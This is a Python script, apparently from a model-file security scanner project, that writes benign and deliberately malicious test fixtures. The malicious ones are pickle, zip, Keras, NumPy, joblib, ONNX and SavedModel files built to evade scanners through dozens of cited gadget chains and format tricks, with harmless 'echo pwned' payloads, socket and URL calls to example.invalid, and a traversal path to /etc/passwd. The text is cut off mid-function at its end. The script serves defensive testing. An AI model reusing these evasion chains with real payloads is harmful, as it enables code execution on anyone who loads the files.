#!/usr/bin/python3
"""Writes the scanner test corpus into test/fixtures/scan/.

Run with Debian's interpreter (/usr/bin/python3), which has python3-torch, python3-sklearn,
python3-joblib, python3-numpy, python3-h5py and python3-onnx. Benign files are written by
the real libraries; malicious files are assembled opcode by opcode and carry harmless
payloads (`echo pwned`, `print('pwned')`). Nothing written here is ever loaded.
"""

import base64
import collections
import io
import json
import os
import pickle
import pickletools
import shutil
import struct
import tarfile
import zipfile
import zlib

import h5py
import joblib
import numpy as np
import onnx
import onnx.helper as oh
import torch
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import StandardScaler

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'test', 'fixtures', 'scan')
BENIGN = os.path.join(ROOT, 'benign')
MALICIOUS = os.path.join(ROOT, 'malicious')
UNSCANNABLE = os.path.join(ROOT, 'unscannable')
CMD = 'echo pwned'
MANIFEST = []

torch.manual_seed(0)
np.random.seed(0)


def record(folder, name, data, verdict, bypass, reference=None, names=(), fmt=None):
    path = os.path.join(folder, name)
    with open(path, 'wb') as f:
        f.write(data)
    assert len(data) < 100 * 1024, name
    MANIFEST.append({
        'file': os.path.relpath(path, ROOT),
        'verdict': verdict,
        'format': fmt,
        'bypass': bypass,
        'reference': reference,
        'expectNames': list(names),
    })


def benign(name, data, what, fmt):
    record(BENIGN, name, data, 'safe', what, None, (), fmt)


def malicious(name, data, bypass, reference, names, verdict='dangerous', fmt=None):
    record(MALICIOUS, name, data, verdict, bypass, reference, names, fmt)


def saved(write):
    buf = io.BytesIO()
    write(buf)
    return buf.getvalue()


def saved_path(write, suffix):
    tmp = os.path.join(ROOT, '.tmp' + suffix)
    write(tmp)
    with open(tmp, 'rb') as f:
        data = f.read()
    os.remove(tmp)
    return data


# ---- pickle opcode helpers --------------------------------------------------------------

def proto(n):
    return b'\x80' + bytes([n])


def sbu(s):
    b = s.encode()
    return b'\x8c' + bytes([len(b)]) + b


def bu(s):
    b = s.encode()
    return b'X' + struct.pack('<I', len(b)) + b


def sbb(b):
    return b'C' + bytes([len(b)]) + b


def binbytes(b):
    return b'B' + struct.pack('<I', len(b)) + b


def g0(module, name):
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n'


def sg(module, name):
    return sbu(module) + sbu(name) + b'\x93'


TUPLE1, TUPLE2, REDUCE, STOP, MARK, EMPTY_TUPLE = b'\x85', b'\x86', b'R', b'.', b'(', b')'


def call(fn, *args):
    return fn + MARK + b''.join(args) + b't' + REDUCE


def p4(body):
    return proto(4) + body + STOP


def check_pickle(data):
    """Disassembles to make sure every hand-made stream is well-formed up to its end."""
    list(pickletools.genops(data))
    return data


# ---- zip helpers --------------------------------------------------------------------------

def build_zip(members, flags=0, bad_crc=False, cd_names=None, deflate=False):
    """A zip with full control over header fields, which zipfile refuses to write."""
    out = io.BytesIO()
    central = []
    for i, (name, data) in enumerate(members):
        crc = zlib.crc32(data) ^ (0xDEADBEEF if bad_crc else 0)
        body = data
        method = 0
        if deflate:
            c = zlib.compressobj(9, zlib.DEFLATED, -15)
            body = c.compress(data) + c.flush()
            method = 8
        offset = out.tell()
        nb = name.encode()
        out.write(struct.pack('<IHHHHHIIIHH', 0x04034B50, 20, flags, method, 0, 0, crc, len(body), len(data), len(nb), 0))
        out.write(nb)
        out.write(body)
        cd_name = (cd_names[i] if cd_names else name).encode()
        central.append(struct.pack('<IHHHHHHIIIHHHHHII', 0x02014B50, 20, 20, flags, method, 0, 0, crc, len(body), len(data),
                                   len(cd_name), 0, 0, 0, 0, 0, offset) + cd_name)
    cd_offset = out.tell()
    for c in central:
        out.write(c)
    cd_size = out.tell() - cd_offset
    out.write(struct.pack('<IHHHHIIH', 0x06054B50, 0, 0, len(members), len(members), cd_size, cd_offset, 0))
    return out.getvalue()


def torch_zip(data_pkl, extra=()):
    members = [('archive/data.pkl', data_pkl), ('archive/byteorder', b'little'), ('archive/version', b'3\n')]
    return build_zip(members + list(extra))


# ---- benign files made by the real libraries ----------------------------------------------

def make_benign():
    state = {'weight': torch.randn(4, 3), 'bias': torch.zeros(4), 'step': 7}
    benign('torch-state-dict.pt', saved(lambda f: torch.save(state, f)), 'torch.save of a state dict (zip)', 'pytorch')

    net = torch.nn.Sequential(torch.nn.Linear(3, 8), torch.nn.ReLU(), torch.nn.BatchNorm1d(8), torch.nn.Linear(8, 2))
    benign('torch-module-state.pth', saved(lambda f: torch.save(net.state_dict(), f)), 'torch.save of an nn.Module state_dict', 'pytorch')
    benign('torch-legacy.pt', saved(lambda f: torch.save(state, f, _use_new_zipfile_serialization=False)),
           'torch.save legacy (stacked pickles)', 'pytorch-legacy')
    benign('torch-half.bin', saved(lambda f: torch.save({'h': torch.ones(2, 2, dtype=torch.float16), 'i': torch.arange(3)}, f)),
           'torch.save with half and int64 tensors named .bin', 'pytorch')

    x = np.random.randn(40, 3)
    y = (x[:, 0] > 0).astype(int)
    pipe = Pipeline([('scale', StandardScaler()), ('clf', LogisticRegression(max_iter=200))]).fit(x, y)
    benign('sklearn-pipeline.pkl', pickle.dumps(pipe), 'pickle of sklearn Pipeline(StandardScaler, LogisticRegression)', 'pickle')
    benign('sklearn-pipeline-p2.pkl', pickle.dumps(pipe, protocol=2), 'protocol 2 pickle of the same pipeline', 'pickle')
    benign('sklearn-pipeline.joblib', saved_path(lambda p: joblib.dump(pipe, p), '.joblib'), 'joblib.dump of the pipeline', 'joblib')
    benign('sklearn-pipeline.joblib.z', saved_path(lambda p: joblib.dump(pipe, p, compress=('zlib', 3)), '.z'), 'joblib zlib-compressed', 'joblib')
    benign('sklearn-pipeline.joblib.gz', saved_path(lambda p: joblib.dump(pipe, p, compress=('gzip', 3)), '.gz'), 'joblib gzip-compressed', 'joblib')

    plain = {'a': [1, 2.5, 'x', b'y', (1, 2), None, True], 'big': 2 ** 70, 'od': collections.OrderedDict(k=1), 's': {1, 2}}
    for p in range(0, 6):
        benign(f'plain-p{p}.pkl', pickle.dumps(plain, protocol=p), f'plain containers, pickle protocol {p}', 'pickle')

    benign('array.npy', saved(lambda f: np.save(f, np.arange(12, dtype=np.float32).reshape(3, 4))), 'numpy .npy (numeric)', 'numpy')
    benign('arrays.npz', saved(lambda f: np.savez(f, a=np.ones(5), b=np.arange(4, dtype=np.int16))), 'numpy .npz', 'numpy-npz')
    benign('arrays-compressed.npz', saved(lambda f: np.savez_compressed(f, a=np.zeros(100), b=np.eye(3))), 'numpy .npz compressed', 'numpy-npz')

    def weights_h5(path):
        with h5py.File(path, 'w') as f:
            f.create_dataset('dense/kernel', data=np.ones((3, 2), dtype=np.float32))
            f.attrs['note'] = 'weights only'
    benign('weights.h5', saved_path(weights_h5, '.h5'), 'h5py weights file', 'hdf5')

    dense_config = {'class_name': 'Sequential', 'config': {'name': 'seq', 'layers': [
        {'class_name': 'InputLayer', 'config': {'batch_input_shape': [None, 3], 'dtype': 'float32', 'name': 'in'}},
        {'class_name': 'Dense', 'config': {'name': 'dense', 'units': 2, 'activation': 'relu'}}]}}

    def keras_h5(config):
        def write(path):
            with h5py.File(path, 'w') as f:
                f.attrs['keras_version'] = '2.11.0'
                f.attrs['backend'] = 'tensorflow'
                f.attrs['model_config'] = json.dumps(config)
                f.create_dataset('model_weights/dense/kernel', data=np.ones((3, 2), dtype=np.float32))
        return saved_path(write, '.h5')
    benign('keras-dense.h5', keras_h5(dense_config), 'Keras 2 style .h5 with a Dense model config', 'keras-h5')

    keras3 = {'module': 'keras', 'class_name': 'Sequential', 'config': {'name': 'seq', 'layers': [
        {'module': 'keras.layers', 'class_name': 'Dense', 'config': {'name': 'dense', 'units': 2}, 'registered_name': None}]},
        'registered_name': None}
    weights = saved_path(weights_h5, '.h5')
    benign('model.keras', build_zip([('metadata.json', b'{"keras_version": "3.3.3"}'), ('config.json', json.dumps(keras3).encode()),
                                      ('model.weights.h5', weights)], deflate=True), '.keras zip with Dense layers', 'keras')

    graph = oh.make_graph([oh.make_node('MatMul', ['x', 'w'], ['h']), oh.make_node('Relu', ['h'], ['y'])], 'g',
                          [oh.make_tensor_value_info('x', onnx.TensorProto.FLOAT, [1, 3])],
                          [oh.make_tensor_value_info('y', onnx.TensorProto.FLOAT, [1, 2])],
                          [oh.make_tensor('w', onnx.TensorProto.FLOAT, [3, 2], np.ones(6, dtype=np.float32).tolist())])
    model = oh.make_model(graph, opset_imports=[oh.make_opsetid('', 13)])
    onnx.checker.check_model(model)
    benign('model.onnx', model.SerializeToString(), 'onnx.helper MatMul+Relu model', 'onnx')

    ext = onnx.load_from_string(model.SerializeToString())
    t = ext.graph.initializer[0]
    t.ClearField('float_data')
    t.data_location = onnx.TensorProto.EXTERNAL
    for k, v in (('location', 'weights/w.bin'), ('offset', '0'), ('length', '24')):
        e = t.external_data.add()
        e.key, e.value = k, v
    benign('model-external.onnx', ext.SerializeToString(), 'onnx with external data inside the model directory', 'onnx')

    benign('model.safetensors', safetensors({'a': ('F32', [2, 3], np.ones(6, dtype=np.float32).tobytes()),
                                              'b': ('I64', [2], np.arange(2).tobytes())}, {'format': 'pt'}),
           'safetensors with two tensors and metadata', 'safetensors')
    benign('model.gguf', gguf(), 'GGUF v3 with metadata and one tensor', 'gguf')
    benign('saved_model.pb', saved_model(['Placeholder', 'Const', 'VarHandleOp', 'ReadVariableOp', 'MatMul', 'BiasAdd', 'Relu',
                                          'Identity', 'NoOp', 'SaveV2', 'RestoreV2', 'StringJoin', 'ShardedFilename',
                                          'MergeV2Checkpoints', 'StatefulPartitionedCall']),
           'TensorFlow SavedModel protobuf with ordinary ops', 'tensorflow-savedmodel')
    benign('README.md', b'# A model\n\nTrained on data.\n', 'markdown next to the model', 'text')
    benign('config.json', json.dumps({'hidden_size': 8, 'architectures': ['Tiny']}).encode(), 'a JSON config', 'json')


def safetensors(tensors, metadata):
    header = {'__metadata__': metadata}
    blob = b''
    for name, (dtype, shape, data) in tensors.items():
        header[name] = {'dtype': dtype, 'shape': shape, 'data_offsets': [len(blob), len(blob) + len(data)]}
        blob += data
    h = json.dumps(header).encode()
    h += b' ' * (-len(h) % 8)
    return struct.pack('<Q', len(h)) + h + blob


def gguf():
    def s(x):
        b = x.encode()
        return struct.pack('<Q', len(b)) + b
    kv = [(s('general.architecture'), 8, s('llama')), (s('general.name'), 8, s('tiny')), (s('llama.block_count'), 4, struct.pack('<I', 1))]
    out = b'GGUF' + struct.pack('<IQQ', 3, 1, len(kv))
    for k, t, v in kv:
        out += k + struct.pack('<I', t) + v
    out += s('tok_embeddings.weight') + struct.pack('<I', 2) + struct.pack('<QQ', 4, 2) + struct.pack('<I', 0) + struct.pack('<Q', 0)
    out += b'\x00' * (-len(out) % 32)
    return out + np.ones(8, dtype=np.float32).tobytes()


def pb_field(num, data):
    return pb_varint(num << 3 | 2) + pb_varint(len(data)) + data


def pb_varint(n):
    out = b''
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def saved_model(ops, function_ops=()):
    nodes = b''.join(pb_field(1, pb_field(1, f'n{i}'.encode()) + pb_field(2, op.encode())) for i, op in enumerate(ops))
    fn = b''
    if function_ops:
        body = b''.join(pb_field(3, pb_field(1, f'f{i}'.encode()) + pb_field(2, op.encode())) for i, op in enumerate(function_ops))
        fn = pb_field(2, pb_field(1, pb_field(1, pb_field(1, b'fn')) + body))
    graph = nodes + fn
    meta = pb_field(1, pb_field(4, b'serve')) + pb_field(2, graph)
    return pb_varint(1 << 3) + pb_varint(1) + pb_field(2, meta)


# ---- malicious files ----------------------------------------------------------------------

PICKLESCAN = 'https://github.com/mmaitre314/picklescan/security/advisories/'
FICKLING_210 = 'https://github.com/trailofbits/fickling/pull/210'


def os_system_p2():
    return check_pickle(proto(2) + g0('posix', 'system') + bu(CMD) + TUPLE1 + REDUCE + STOP)


def make_malicious():
    m = malicious
    m('os-system-p0.pkl', check_pickle(g0('os', 'system') + b"(S'echo pwned'\ntR."), 'baseline GLOBAL+REDUCE, protocol 0',
      'https://docs.python.org/3/library/pickle.html', ['os.system'])
    m('posix-system.pkl', os_system_p2(), 'posix.system (os.system as pickled on Linux)', 'https://docs.python.org/3/library/pickle.html', ['posix.system'])
    m('nt-system.pkl', check_pickle(p4(call(sg('nt', 'system'), sbu(CMD)))), 'nt.system (os.system as pickled on Windows)', None, ['nt.system'])
    m('subprocess.pkl', check_pickle(p4(call(sg('subprocess', 'check_output'), b']' + MARK + sbu('echo') + sbu('pwned') + b'e'))),
      'subprocess.check_output', None, ['subprocess.check_output'])

    broken = proto(2) + g0('posix', 'system') + bu(CMD) + TUPLE1 + REDUCE + b'0' + b'\x00garbage-after-payload'
    m('nullifai-broken.pt', torch_zip(broken), 'nullifAI: pickle broken right after the REDUCE, inside a torch zip',
      'https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face', ['posix.system'])
    m('nullifai-7z.pt', b"7z\xbc\xaf'\x1c\x00\x04" + b'\x00' * 24 + torch_zip(os_system_p2()),
      'nullifAI: torch archive compressed with 7z (cannot be decoded here)',
      'https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face', [], verdict='unscannable')
    m('pip-main.pkl', check_pickle(p4(call(sg('pip', 'main'), b']' + MARK + sbu('install') + sbu('pwned-package') + b'e'))),
      'pip.main installs an attacker package', 'https://nvd.nist.gov/vuln/detail/CVE-2025-1716', ['pip.main'])
    m('model.bin', os_system_p2(), 'raw pickle with a non-pickle extension', 'https://nvd.nist.gov/vuln/detail/CVE-2025-1889', ['posix.system'])
    m('zip-member-config-json.pt', torch_zip(pickle.dumps({'ok': 1}), [('archive/config.json', os_system_p2()), ('archive/data.txt', os_system_p2())]),
      'pickle hidden in zip members named config.json and data.txt', 'https://nvd.nist.gov/vuln/detail/CVE-2025-1889', ['posix.system'])
    m('zip-name-mismatch.pt', build_zip([('archive/data.pkl', os_system_p2()), ('archive/version', b'3\n')],
                                       cd_names=['archive/readme.txt', 'archive/version']),
      'local file header name differs from the central-directory name', 'https://nvd.nist.gov/vuln/detail/CVE-2025-1944', ['posix.system'])
    for bit in (0x1, 0x20, 0x40):
        m(f'zip-flag-{bit:#04x}.pt', build_zip([('archive/data.pkl', os_system_p2())], flags=bit),
          f'zip general-purpose flag bit {bit:#x} set (Python zipfile refuses the member; torch ignores it)',
          'https://nvd.nist.gov/vuln/detail/CVE-2025-1945', ['posix.system'])
    m('zip-bad-crc.pt', build_zip([('archive/data.pkl', os_system_p2())], bad_crc=True), 'zip member with a wrong CRC-32',
      'https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/ (CVE-2025-10156)', ['posix.system'])
    m('zip-deflate.pt', build_zip([('archive/data.pkl', os_system_p2())], deflate=True), 'deflated zip member', None, ['posix.system'])
    m('zip-nested.zip', build_zip([('inner/model.pt', torch_zip(os_system_p2()))]), 'torch zip nested inside another zip', None, ['posix.system'])
    m('asyncio-dotted.pkl', check_pickle(p4(call(sg('asyncio.unix_events', '_UnixSubprocessTransport._start'), sbu(CMD)))),
      'dotted submodule name asyncio.unix_events._UnixSubprocessTransport._start',
      'https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/ (CVE-2025-10157)',
      ['asyncio.unix_events._UnixSubprocessTransport._start'])
    m('stack-global-no-proto.pkl', check_pickle(b"S'os'\nS'system'\n\x93S'echo pwned'\n\x85R."),
      'STACK_GLOBAL without PROTO, names pushed with protocol-0 STRING opcodes', PICKLESCAN + 'GHSA-9gvj-pp9x-gcfr', ['os.system'])
    m('memo-names.pkl', check_pickle(p4(sbu('os') + b'\x94' + b'0' + sbu('system') + b'\x94' + b'0' + sbu('decoy') + b'0' +
                                        b'h\x00h\x01\x93' + sbu(CMD) + TUPLE1 + REDUCE)),
      'module and name fetched from the memo for STACK_GLOBAL', 'https://github.com/mmaitre314/picklescan/issues/22', ['os.system'])
    m('memo-missing-key.pkl', proto(2) + g0('posix', 'system') + bu(CMD) + TUPLE1 + REDUCE + b'h\x63' + STOP,
      'BINGET of a missing memo key after the payload', 'https://github.com/mmaitre314/picklescan/issues/22', ['posix.system'])
    m('memo-nonstring.pkl', proto(4) + EMPTY_TUPLE + b'\x94' + b'0' + sbu('system') + b'\x94' + b'0' + b'h\x00h\x01\x93' + sbu(CMD) +
      TUPLE1 + REDUCE + STOP, 'STACK_GLOBAL whose module comes from a non-string memo entry',
      'https://github.com/mmaitre314/picklescan/issues/22', ['?.system'])
    m('build-attr-write.pkl', check_pickle(p4(sg('collections', 'OrderedDict') + b'N}' + sbu('fromkeys') + sbu(CMD) + b's' + TUPLE2 + b'b' + b'0' +
                                              call(sg('collections', 'OrderedDict.fromkeys'), sbu(CMD)))),
      'BUILD writes an attribute of an allowed global, which is then fetched and called', None, ['collections.OrderedDict'])
    m('builtins-eval-call.pkl', check_pickle(p4(call(sg('builtins', 'eval.__call__'), sbu("print('pwned')")))),
      'dotted name builtins + eval.__call__', 'https://github.com/trailofbits/fickling/pull/287', ['builtins.eval.__call__'])
    m('pathlib-os-system.pkl', check_pickle(p4(call(sg('pathlib', 'os.system'), sbu(CMD)))),
      'dotted name pathlib + os.system reaches os through pathlib', 'https://github.com/trailofbits/fickling/pull/287 (GHSA-5j3x-jp52-966f)',
      ['pathlib.os.system'])
    os_mod = call(sg('importlib', 'import_module'), sbu('os'))
    m('importlib-getattr-static.pkl', check_pickle(p4(call(call(sg('inspect', 'getattr_static'), os_mod, sbu('system')), sbu(CMD)))),
      'importlib.import_module + inspect.getattr_static', 'https://github.com/mmaitre314/picklescan/issues/66',
      ['importlib.import_module', 'inspect.getattr_static'])
    m('pkgutil-resolve-name.pkl', check_pickle(p4(call(call(sg('pkgutil', 'resolve_name'), sbu('os:system')), sbu(CMD)))),
      'pkgutil.resolve_name reaches any callable', PICKLESCAN + 'GHSA-vvpj-8cmc-gx39', ['pkgutil.resolve_name'])
    m('marshal-function.pkl', check_pickle(p4(call(call(sg('types', 'FunctionType'), call(sg('marshal', 'loads'), sbb(b'\xe3harmless')), b'}'), b''))),
      'marshal.loads + types.FunctionType build a function from bytecode', 'https://github.com/mmaitre314/picklescan/pull/74',
      ['marshal.loads', 'types.FunctionType'])
    m('operator-attrgetter.pkl', check_pickle(p4(call(call(call(sg('_operator', 'attrgetter'), sbu('system')), os_mod), sbu(CMD)))),
      '_operator.attrgetter fetches os.system', PICKLESCAN + 'GHSA-955r-x9j8-7rhh', ['_operator.attrgetter'])
    m('operator-methodcaller.pkl', check_pickle(p4(call(call(sg('operator', 'methodcaller'), sbu('system'), sbu(CMD)), os_mod))),
      'operator.methodcaller calls os.system', PICKLESCAN + 'GHSA-m273-6v24-x4m4', ['operator.methodcaller'])
    code = sbu("print('pwned')")
    m('timeit.pkl', check_pickle(p4(call(sg('timeit', 'timeit'), code))), 'timeit.timeit runs a statement', PICKLESCAN + 'GHSA-v7x6-rv5q-mhwc', ['timeit.timeit'])
    m('cprofile.pkl', check_pickle(p4(call(sg('cProfile', 'run'), code))), 'cProfile.run runs a statement', PICKLESCAN + 'GHSA-9w88-8rmg-7g2p', ['cProfile.run'])
    m('pdb.pkl', check_pickle(p4(call(sg('pdb', 'run'), code))), 'pdb.run runs a statement', PICKLESCAN + 'GHSA-4675-36f9-wf6r', ['pdb.run'])
    m('bdb.pkl', check_pickle(p4(call(sg('bdb', 'Bdb.run'), sg('bdb', 'Bdb') + EMPTY_TUPLE + b'\x81', code))),
      'bdb.Bdb.run on a fresh debugger', PICKLESCAN + 'GHSA-4675-36f9-wf6r', ['bdb.Bdb.run'])
    m('trace.pkl', check_pickle(p4(call(sg('trace', 'Trace.runctx'), sg('trace', 'Trace') + EMPTY_TUPLE + b'\x81', code, b'}}'))),
      'trace.Trace.runctx runs a statement', FICKLING_210, ['trace.Trace.runctx'])
    m('code-interpreter.pkl', check_pickle(p4(call(sg('code', 'InteractiveInterpreter.runsource'), sg('code', 'InteractiveInterpreter') + EMPTY_TUPLE + b'\x81', code))),
      'code.InteractiveInterpreter.runsource', None, ['code.InteractiveInterpreter.runsource'])
    partial_state = MARK + sg('torch', 'load') + MARK + sbu('payload.pt') + b't}' + sbu('weights_only') + b'\x89s' + b'N' + b't'
    m('functools-partial-torch-load.pkl', check_pickle(p4(call(sg('functools', 'partial'), sg('torch', 'load')) + partial_state + b'b' +
                                                          EMPTY_TUPLE + REDUCE)),
      'functools.partial wraps torch.load(weights_only=False) of a second file', FICKLING_210, ['functools.partial', 'torch.load'])
    m('ctypes.pkl', check_pickle(p4(call(sg('ctypes', 'CDLL'), b'N'))), 'ctypes.CDLL loads native code', None, ['ctypes.CDLL'])
    m('runpy.pkl', check_pickle(p4(call(sg('runpy', 'run_path'), sbu('/tmp/pwned.py')))), 'runpy.run_path', None, ['runpy.run_path'])
    m('webbrowser.pkl', check_pickle(p4(call(sg('webbrowser', 'open'), sbu('https://example.invalid/pwned')))), 'webbrowser.open', None, ['webbrowser.open'])
    addr = sbu('example.invalid') + b'M' + struct.pack('<H', 4444) + TUPLE2
    m('socket.pkl', check_pickle(p4(call(sg('socket', 'create_connection'), addr))), 'socket.create_connection', None, ['socket.create_connection'])
    m('ssl.pkl', check_pickle(p4(call(sg('ssl', 'get_server_certificate'), addr))), 'ssl.get_server_certificate', PICKLESCAN + 'GHSA-hgrh-qx5j-jfwx',
      ['ssl.get_server_certificate'])
    m('urllib.pkl', check_pickle(p4(call(sg('urllib.request', 'urlopen'), sbu('http://example.invalid/pwned')))), 'urllib.request.urlopen', None,
      ['urllib.request.urlopen'])
    m('shutil.pkl', check_pickle(p4(call(sg('shutil', 'copyfile'), sbu('/etc/hostname'), sbu('/tmp/pwned')))), 'shutil file access',
      FICKLING_210, ['shutil.copyfile'])
    m('ext1.pkl', check_pickle(proto(2) + b'\x82\x01' + bu(CMD) + TUPLE1 + REDUCE + STOP), 'EXT1 extension-registry code',
      'https://docs.python.org/3/library/copyreg.html', ['ext:1'])
    m('inst.pkl', check_pickle(b"(S'echo pwned'\nios\nsystem\n."), 'INST opcode instantiates os.system', None, ['os.system'])
    m('obj.pkl', check_pickle(b"(csubprocess\nPopen\n(S'echo'\nS'pwned'\nlo."), 'OBJ opcode calls subprocess.Popen', None, ['subprocess.Popen'])
    m('getattr-chain.pkl', check_pickle(p4(call(call(sg('builtins', 'getattr'), call(sg('builtins', '__import__'), sbu('os')), sbu('system')), sbu(CMD)))),
      'builtins.getattr on builtins.__import__', None, ['builtins.getattr', 'builtins.__import__'])
    m('py2-builtin-eval.pkl', check_pickle(b"c__builtin__\neval\n(S\"print('pwned')\"\ntR."), 'Python 2 module name __builtin__.eval', None, ['builtins.eval'])
    m('copyreg-reconstructor.pkl', check_pickle(b"ccopy_reg\n_reconstructor\n(csubprocess\nPopen\ncsubprocess\nPopen\nS'echo pwned'\ntR."),
      'copy_reg._reconstructor runs Popen.__init__ (py2 module name)', None, ['subprocess.Popen'])
    m('idlelib.pkl', check_pickle(p4(call(sg('idlelib.pyshell', 'ModifiedInterpreter.runcode'), b'N', code))),
      'idlelib.pyshell.ModifiedInterpreter.runcode', PICKLESCAN + 'GHSA-3gf5-cxq9-w223', ['idlelib.pyshell.ModifiedInterpreter.runcode'])
    m('lib2to3.pkl', check_pickle(p4(call(sg('lib2to3.pgen2.pgen', 'ParserGenerator.make_label'), b'N', code))),
      'lib2to3.pgen2.pgen.ParserGenerator.make_label evals', PICKLESCAN + 'GHSA-p9w7-82w4-7q8m', ['lib2to3.pgen2.pgen.ParserGenerator.make_label'])
    m('ensurepip.pkl', check_pickle(p4(call(sg('ensurepip', '_run_pip'), b']' + sbu('--version') + b'a'))), 'ensurepip._run_pip',
      PICKLESCAN + 'GHSA-xp4f-hrf8-rxw7', ['ensurepip._run_pip'])
    m('distutils-write-file.pkl', check_pickle(p4(call(sg('distutils.file_util', 'write_file'), sbu('/tmp/pwned'), b']' + sbu('pwned') + b'a'))),
      'distutils.file_util.write_file', FICKLING_210, ['distutils.file_util.write_file'])
    m('numpy-f2py.pkl', check_pickle(p4(call(sg('numpy.f2py.crackfortran', 'getlincoef'), code, b'}'))), 'numpy.f2py.crackfortran.getlincoef evals',
      FICKLING_210, ['numpy.f2py.crackfortran.getlincoef'])
    m('pickle-loads-nested.pkl', check_pickle(p4(call(sg('_pickle', 'loads'), binbytes(os_system_p2())))), '_pickle.loads of a nested pickle',
      PICKLESCAN + 'GHSA-84r2-jw7c-4r5q', ['_pickle.loads'])
    m('torch-load-from-bytes.pkl', check_pickle(p4(call(sg('torch.storage', '_load_from_bytes'), binbytes(os_system_p2())))),
      'torch.storage._load_from_bytes unpickles nested bytes with torch.load', None, ['torch.storage._load_from_bytes'])

    legacy = saved(lambda f: torch.save({'w': torch.ones(2)}, f, _use_new_zipfile_serialization=False))
    first_stop = next(pos for op, _, pos in pickletools.genops(legacy) if op.name == 'STOP') + 1
    magic = proto(2) + g0('builtins', 'eval') + bu("print('pwned') or 0x1950a86a20f9469cfc6c") + TUPLE1 + REDUCE + STOP
    m('torch-legacy-magic-reduce.pt', magic + legacy[first_stop:], 'legacy torch magic number computed by a __reduce__ call',
      None, ['builtins.eval'])
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode='w', format=tarfile.USTAR_FORMAT) as t:
        for name, data in (('sys_info', pickle.dumps({'little_endian': True}, protocol=2)), ('pickle', os_system_p2()),
                           ('storages', pickle.dumps(0, protocol=2)), ('tensors', pickle.dumps(0, protocol=2))):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    m('torch-legacy.tar', tar.getvalue(), 'legacy torch tar form with a malicious pickle member', None, ['posix.system'])

    lam = base64.b64encode(b'\xe3harmless-bytecode').decode()
    lambda_h5 = {'class_name': 'Sequential', 'config': {'name': 'seq', 'layers': [
        {'class_name': 'Lambda', 'config': {'name': 'lambda', 'function': [lam, None, None], 'function_type': 'lambda'}}]}}

    def keras_h5(path):
        with h5py.File(path, 'w') as f:
            f.attrs['keras_version'] = '2.11.0'
            f.attrs['model_config'] = json.dumps(lambda_h5)
    m('keras-lambda.h5', saved_path(keras_h5, '.h5'), 'Keras Lambda layer with marshalled bytecode in the HDF5 model_config',
      'https://nvd.nist.gov/vuln/detail/CVE-2024-3660', ['Lambda'])
    lambda3 = {'module': 'keras', 'class_name': 'Sequential', 'config': {'layers': [
        {'module': 'keras.layers', 'class_name': 'Lambda', 'config': {'name': 'l', 'function': {
            'module': 'builtins', 'class_name': 'function', 'config': {'code': lam}, 'registered_name': 'function'}}}]}}
    m('keras-lambda.keras', build_zip([('metadata.json', b'{}'), ('config.json', json.dumps(lambda3).encode())]),
      '.keras config.json with a Lambda layer', 'https://nvd.nist.gov/vuln/detail/CVE-2024-3660', ['Lambda'])
    module_ref = {'module': 'keras', 'class_name': 'Sequential', 'config': {'layers': [
        {'module': 'os', 'class_name': 'system', 'config': {'name': CMD}, 'registered_name': None}]}}
    m('keras-module.keras', build_zip([('config.json', json.dumps(module_ref).encode())]),
      '.keras config.json naming a callable outside keras', 'https://nvd.nist.gov/vuln/detail/CVE-2025-1550', ['os.system'])

    hdr = io.BytesIO()
    np.lib.format.write_array_header_1_0(hdr, {'descr': '|O', 'fortran_order': False, 'shape': (1,)})
    m('object-array.npy', hdr.getvalue() + os_system_p2(), 'object .npy whose payload is a pickle', 'https://numpy.org/doc/stable/reference/generated/numpy.load.html',
      ['posix.system'])
    m('object-array.npz', build_zip([('arr_0.npy', hdr.getvalue() + os_system_p2())]), 'object array inside an .npz', None, ['posix.system'])

    class Payload:
        def __reduce__(self):
            return os.system, (CMD,)
    arr = np.empty(2, dtype=object)
    arr[0], arr[1] = 'fine', Payload()
    m('joblib-nested.joblib', saved_path(lambda p: joblib.dump({'weights': np.ones(3), 'extra': arr}, p), '.joblib'),
      'joblib object array stored as a nested pickle after the array wrapper', None, ['posix.system'])
    m('joblib-nested.joblib.gz', saved_path(lambda p: joblib.dump({'extra': arr}, p, compress=('gzip', 3)), '.gz'),
      'gzip-compressed joblib with a nested pickle', None, ['posix.system'])

    graph = oh.make_graph([oh.make_node('Relu', ['x'], ['y'])], 'g', [oh.make_tensor_value_info('x', onnx.TensorProto.FLOAT, [1])],
                          [oh.make_tensor_value_info('y', onnx.TensorProto.FLOAT, [1])],
                          [oh.make_tensor('w', onnx.TensorProto.FLOAT, [1], [1.0])])
    model = oh.make_model(graph, opset_imports=[oh.make_opsetid('', 13)])
    t = model.graph.initializer[0]
    t.ClearField('float_data')
    t.data_location = onnx.TensorProto.EXTERNAL
    e = t.external_data.add()
    e.key, e.value = 'location', '../../../../etc/passwd'
    m('onnx-external-escape.onnx', model.SerializeToString(), 'ONNX external_data location escaping the model directory',
      'https://nvd.nist.gov/vuln/detail/CVE-2024-27318', ['../../../../etc/passwd'])
    graph = oh.make_graph([oh.make_node('Exec', ['x'], ['y'], domain='evil.custom')], 'g',
                          [oh.make_tensor_value_info('x', onnx.TensorProto.FLOAT, [1])], [oh.make_tensor_value_info('y', onnx.TensorProto.FLOAT, [1])])
    m('onnx-custom-domain.onnx', oh.make_model(graph, opset_imports=[oh.make_opsetid('', 13), oh.make_opsetid('evil.custom', 1)]).SerializeToString(),
      'ONNX custom operator domain needs a native library', None, ['evil.custom'], verdict='suspicious')
    m('tf-pyfunc.pb', saved_model(['Placeholder', 'ReadFile'], ['EagerPyFunc']), 'SavedModel reading files and calling Python',
      'https://github.com/tensorflow/tensorflow/security/advisories', ['ReadFile', 'EagerPyFunc'])


def make_unscannable():
    x = np.random.randn(10, 2)
    model = LogisticRegression().fit(x, (x[:, 0] > 0).astype(int))
    for comp, ext in (('xz', '.xz'), ('bz2', '.bz2'), ('lzma', '.lzma')):
